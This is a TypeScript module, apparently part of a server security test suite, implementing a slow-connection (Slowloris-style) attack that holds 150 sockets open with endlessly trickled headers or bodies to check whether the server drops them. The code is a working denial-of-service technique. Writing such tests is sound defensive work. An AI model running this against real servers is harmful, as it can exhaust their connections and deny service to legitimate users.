import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, gains, type Scene } from '../attack';
import { REQUEST_MAY_TAKE_MS } from '../house';

const COUNT = 150;
/** How long after its time limit a connection may stay open: the server looks once a second, and may be busy. */
const GRACE_MS = 8_000;

const HEAD = 'POST /front/v1/open HTTP/1.1\r\nHost: ocb\r\nContent-Type: application/json\r\n';
const BODY = `${HEAD}Content-Length: 4000\r\n\r\n`;

/** Opens connections that send `start`, and then `more` again and again. Returns how many the server keeps. */
async function trickle(scene: Scene, start: string, more: string): Promise<number> {
  const { hostname, port } = new URL(scene.url);
  const open = new Set<Socket>();
  for (let i = 0; i < COUNT; i += 1) {
    const { address } = scene.from(i);
    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
    open.add(socket);
    socket.on('close', () => open.delete(socket));
    socket.on('error', () => socket.destroy());
    socket.resume();
    socket.write(start);
  }
  const until = performance.now() + REQUEST_MAY_TAKE_MS + GRACE_MS;
  while (open.size > 0 && performance.now() < until) {
    for (const socket of open) if (!socket.destroyed) socket.write(more);
    await delay(100);
  }
  const kept = open.size;
  for (const socket of open) socket.destroy();
  return kept;
}

/** Holds connections with requests that never end. */
export const slowConnections: Attack = {
  name: 'Connections that trickle headers and bodies',
  async run(scene) {
    const headers = await trickle(scene, HEAD, 'X: y\r\n');
    const bodies = await trickle(scene, BODY, ' ');
    return {
      tried: `${COUNT} connections with endless headers, ${COUNT} with endless bodies`,
      gained: gains(
        [headers > 0, `${headers} that send headers stay open`],
        [bodies > 0, `${bodies} that send bodies stay open`],
      ),
    };
  },
};
